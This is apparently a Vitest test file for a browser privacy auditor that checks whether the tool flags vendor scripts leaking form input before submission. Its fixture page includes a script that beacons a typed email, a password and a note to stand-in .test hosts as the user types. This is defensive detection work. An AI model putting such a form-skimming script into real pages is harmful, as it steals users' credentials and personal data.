import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { ask, watch } from '../../demo/automation.ts';
import type { Browser } from '../../demo/browsers/browser.ts';
import { launch } from '../../demo/browsers/launch.ts';
import { type Sink, startSink } from '../../demo/sink.ts';
import type { Report } from '../../src/report/report.ts';
import { kind } from './kind.ts';

const app = 'https://app.fernhill.example';
const password = 'correct horse 12 battery';

/** A sign-up form, and a vendor's script that sends what is typed as it is typed. */
const page = `<!doctype html><form>
  <input id="mail" name="work_email" type="email"><input id="secret" name="pw" type="password"><input id="note" name="note">
  <button id="go">Sign up</button></form><script>
  const send = (what, value) => navigator.sendBeacon('https://' + what + '.test/c', JSON.stringify({ v: value, w: btoa(value) }));
  mail.oninput = () => send('early', mail.value);
  secret.onchange = () => send('passwords', secret.value);
  document.forms[0].onsubmit = (event) => { event.preventDefault(); setTimeout(() => send('late', note.value), 300); };
</script>`;

describe(`what a user types into a form in ${kind}`, () => {
  let sink: Sink;
  let browser: Browser;
  let report: Report;

  beforeAll(async () => {
    sink = await startSink({
      appFolder: '.',
      respond: ({ host }) =>
        host.endsWith('.fernhill.example') ? { headers: { 'content-type': 'text/html' }, body: page } : { status: 204 },
    });
    browser = await launch(kind, { sinkPort: sink.port });
    await watch(browser, [app]);
    const form = await browser.open(app);
    await form.fill('#mail', 'ada.byron@analytical.example');
    await form.fill('#secret', password);
    await form.fill('#note', 'Countess of Lovelace');
    await form.click('#go');
    await sink.quiet(800, 5000);
    report = await ask<Report>(browser, { type: 'report.create' });
    await form.close();
  });
  afterAll(async () => {
    await browser?.close();
    await sink?.close();
  });

  const findings = (vendor: string) =>
    report.findings.filter((each) => each.rule === 'form-value-before-submit' && each.vendor === `host:${vendor}.test`);

  test('is a grave finding where it left before it was submitted', () => {
    expect(findings('early')).toEqual([expect.objectContaining({ severity: 'high', app })]);
    expect(findings('early')[0]?.message).toMatch(
      /^E-mail address typed into .*work_email.* left for early\.test before it was submitted\.$/,
    );
  });

  test('is a finding where it left afterwards', () => {
    expect(findings('late')).toEqual([expect.objectContaining({ severity: 'medium' })]);
  });

  test('is recognised as a password by its digest alone, and shown nowhere', () => {
    const sent = report.vendors.find(({ id }) => id === 'host:passwords.test');
    expect(sent?.disclosures.map(({ category }) => category)).toContain('password');
    expect(findings('passwords')).toHaveLength(1);
    expect(report.findings.map(({ rule }) => rule)).toContain('secret-sent');
    expect(JSON.stringify(report)).not.toContain(password);
  });
});
